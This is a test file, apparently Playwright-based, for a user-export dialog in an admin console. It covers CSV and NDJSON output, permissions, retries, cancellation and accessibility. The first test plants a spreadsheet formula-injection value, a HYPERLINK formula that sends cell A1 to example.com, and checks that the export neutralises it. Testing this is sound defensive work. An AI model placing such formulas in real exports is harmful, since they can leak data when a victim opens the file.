// What the list shows, as a file.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import test, { after } from "node:test";

import { assertAccessible, startConsole, told } from "../helpers/console.mjs";

const app = await startConsole({ after }, "--users", "1200");
const { tenant } = app;

const dialog = (page) => page.getByRole("dialog", { name: "Export users" });
const opener = (page) => page.getByRole("button", { name: "Export…" });
const start = (page) => dialog(page).getByRole("button", { name: "Export", exact: true }).click();
const isFocused = (page, name) =>
  page.waitForFunction((text) => document.activeElement?.textContent.startsWith(text), name);

/** Opens the dialog, on the last page of the list, behind which the list reads nothing ahead. */
async function opened(t, options) {
  const page = await app.open(t, "/?page=40", options);
  await page.locator("tbody a").first().waitFor();
  await opener(page).click();
  await dialog(page).waitFor();
  return page;
}

/** The name and the text of the file that a page saves by what is done to it. */
async function saved(page, act) {
  const [download] = await Promise.all([page.waitForEvent("download"), act()]);
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), "utf8") };
}

/** Rows of CSV as objects, by RFC 4180, behind what tells Excel that they are UTF-8. */
function parsed(marked) {
  assert.equal(marked[0], "\uFEFF");
  const text = marked.slice(1);
  const rows = [[]];
  let end = 0;
  for (const [all, cell, separator] of text.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy)) {
    rows.at(-1).push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (separator === "\r\n") rows.push([]);
    end += all.length;
  }
  assert.equal(end, text.length, `no CSV: ${text.slice(end, end + 100)}`);
  const [header, ...lines] = rows.slice(0, -1);
  return lines.map((cells) => {
    assert.equal(cells.length, header.length);
    return Object.fromEntries(cells.map((cell, column) => [header[column], cell]));
  });
}

/** Everybody in the tenant, read from both ends, since a search reaches 1,000. */
async function everybody() {
  const users = new Map();
  for (const sort of ["user_id:1", "user_id:-1"]) {
    for (let page = 0; page < 10; page++) {
      const list = await app.api(`/users?per_page=100&page=${page}&sort=${sort}`);
      for (const user of list) users.set(user.user_id, user);
    }
  }
  return users;
}

/** In the middle of an export, when it sends its sixth request, does something; if that gives false, it stays there. */
async function inTheMiddle(page, act) {
  let sent = 0;
  await page.route(
    ({ pathname }) => pathname === "/admin-api/users",
    async (route) => {
      if (++sent < 6 || (await act(sent))) await route.continue();
    },
  );
}

const stop = (page) => inTheMiddle(page, () => false);

/** How many have been read, when that is more than nobody. */
async function someRead(page) {
  const status = dialog(page).getByText(/^[1-9][\d,]* users read\./);
  await status.waitFor();
  return Number(/^[\d,]+/.exec(await status.textContent())[0].replaceAll(",", ""));
}

test("everybody is exported as CSV, past the cap, and no cell becomes a formula", async (t) => {
  const formula = '=HYPERLINK("https://example.com/?"&A1, "Me")';
  const users = {};
  for (const [key, name] of Object.entries({ formula, lines: 'Two "lines",\nof @text', plus: "+1+1", tab: "\t=1" })) {
    users[key] = await app.newUser(`Cell ${key}`, { name });
  }
  const page = await opened(t);
  await dialog(page).getByText("Everybody, also past the 1,000 that the list reaches.").waitFor();
  await assertAccessible(page, "what to export");
  const { name, text } = await saved(page, () => start(page));
  const tenants = await everybody();
  await dialog(page)
    .getByText(`Done. ${tenants.size.toLocaleString("en-US")} users saved as ${name}.`)
    .waitFor();
  await isFocused(page, "Done.");
  await assertAccessible(page, "the end of an export");
  assert.match(name, /^users-\d{4}-\d\d-\d\d\.csv$/);
  const rows = parsed(text);
  assert.deepEqual(rows.map(({ user_id }) => user_id).sort(), [...tenants.keys()].sort());
  for (const row of rows) {
    const user = tenants.get(row.user_id);
    const isFormula = /^[=+\-@\t\r]/.test(user.name);
    const cells = {
      user_id: user.user_id,
      email: user.email,
      email_verified: user.email_verified,
      name: isFormula ? `'${user.name}` : user.name,
      connections: user.identities.map(({ connection }) => connection).join(" "),
      blocked: user.blocked,
      logins_count: user.logins_count,
      last_login: user.last_login,
      created_at: user.created_at,
    };
    assert.deepEqual(row, Object.fromEntries(Object.entries(cells).map(([key, value]) => [key, String(value ?? "")])));
  }
  const nameOf = ({ user_id }) => rows.find((row) => row.user_id === user_id).name;
  assert.equal(nameOf(users.formula), `'${formula}`);
  assert.equal(nameOf(users.lines), 'Two "lines",\nof @text');
  assert.equal(nameOf(users.plus), "'+1+1");

  const again = await saved(page, () => dialog(page).getByRole("link", { name: "save it here" }).click());
  assert.deepEqual(again, { name, text });
  await dialog(page).getByRole("button", { name: "Close" }).last().click();
  await isFocused(page, "Export…");
});

test("whoever matches the filters is exported as NDJSON, with metadata, by whoever may read", async (t) => {
  const created = [];
  for (const number of [1, 2, 3]) {
    created.push(await app.newUser(`N${number} Filewell`, { user_metadata: { number }, app_metadata: { plan: "a" } }));
  }
  const page = await app.open(t, "/?text=Filewell", { operator: "support" });
  await page.getByText("3 match").waitFor();
  await opener(page).focus();
  await page.keyboard.press("Enter");
  await dialog(page).getByText("Everybody who matches the filters: 3 users.").waitFor();
  await page.keyboard.press("Escape");
  await dialog(page).waitFor({ state: "detached" });
  await isFocused(page, "Export…");

  await page.keyboard.press("Enter");
  assert.equal(await dialog(page).getByLabel("With metadata").count(), 0);
  await dialog(page).getByLabel("Format").selectOption("ndjson");
  const boxes = dialog(page).getByRole("checkbox");
  for (const box of await boxes.all()) await box.uncheck();
  await dialog(page).getByText("Choose one field or more.").waitFor();
  const button = dialog(page).getByRole("button", { name: "Export", exact: true });
  assert.equal(await button.getAttribute("aria-disabled"), "true");
  for (const label of ["Email", "Connections", "With metadata"]) {
    await dialog(page).getByLabel(label, { exact: true }).check();
  }
  await assertAccessible(page, "what to export as NDJSON");
  const { name, text } = await saved(page, () => start(page));
  assert.match(name, /^users-\d{4}-\d\d-\d\d\.ndjson$/);
  assert.deepEqual(
    text.split("\n").map((line) => line && JSON.parse(line)),
    [
      ...created.map(({ email, user_metadata, app_metadata }) => ({
        email,
        connections: ["Username-Password-Authentication"],
        user_metadata,
        app_metadata,
      })),
      "",
    ],
  );
});

test("an export that fails goes on where it was, with nobody lost and nobody twice", async (t) => {
  const page = await opened(t, { expected: [403] });
  const body = JSON.stringify({ statusCode: 403, error: "Forbidden", message: "Insufficient scope" });
  await inTheMiddle(page, async (sent) => {
    if (sent === 6) await tenant.control("fail-next", { operation: "users.list", status: 403, body });
    return true;
  });
  await start(page);
  await dialog(page).getByText("You are not allowed to do this. Ask an administrator to do it.").waitFor();
  const tenants = await everybody();
  const read = await someRead(page);
  assert.ok(read < tenants.size, `${read} were read before the failure`);
  await assertAccessible(page, "an export that has failed");
  const { text } = await saved(page, () => dialog(page).getByRole("button", { name: "Go on" }).click());
  assert.deepEqual(
    parsed(text)
      .map(({ user_id }) => user_id)
      .sort(),
    [...tenants.keys()].sort(),
  );
});

test("an export that is canceled saves nothing, and another one saves all", async (t) => {
  const page = await opened(t);
  const downloads = [];
  page.on("download", (download) => downloads.push(download));
  await stop(page);
  await start(page);
  await someRead(page);
  await dialog(page).getByText("Requests left").waitFor();
  await assertAccessible(page, "an export under way");
  await dialog(page).getByRole("button", { name: "Cancel" }).click();
  await told(page, "The export is canceled. Nothing is saved.");
  await isFocused(page, "Export…");

  await page.unrouteAll();
  await stop(page);
  await page.keyboard.press("Enter");
  await start(page);
  await someRead(page);
  await page.keyboard.press("Escape");
  await dialog(page).waitFor({ state: "detached" });
  await isFocused(page, "Export…");

  await page.unrouteAll();
  await page.keyboard.press("Enter");
  const { text } = await saved(page, () => start(page));
  assert.equal(parsed(text).length, (await everybody()).size);
  assert.equal(downloads.length, 1);
});

test("an export ends with the view that it began in", async (t) => {
  const page = await app.open(t, "/users/nobody", { expected: [404] });
  await page.getByRole("link", { name: "← Users" }).click();
  await page.locator("tbody a").first().waitFor();
  await opener(page).click();
  await stop(page);
  await start(page);
  await someRead(page);
  await page.goBack();
  await told(page, "The export is canceled. Nothing is saved.");
  assert.equal(await page.getByRole("dialog").count(), 0);
});

test("where a search cannot reach everybody, it is said what to do", async (t) => {
  const page = await opened(t);
  await page.route(
    ({ pathname, search }) => pathname === "/admin-api/users" && search.includes("created_at%3A1"),
    async (route) => {
      const response = await route.fetch();
      const { users, ...rest } = await response.json();
      await route.fulfill({ response, json: { ...rest, users: users.reverse() } });
    },
  );
  await start(page);
  await dialog(page).getByText("There are users that a search cannot reach.").waitFor();
  await dialog(page).getByText("Narrow the list down with a filter.").waitFor();
  await page.unrouteAll({ behavior: "ignoreErrors" });
});
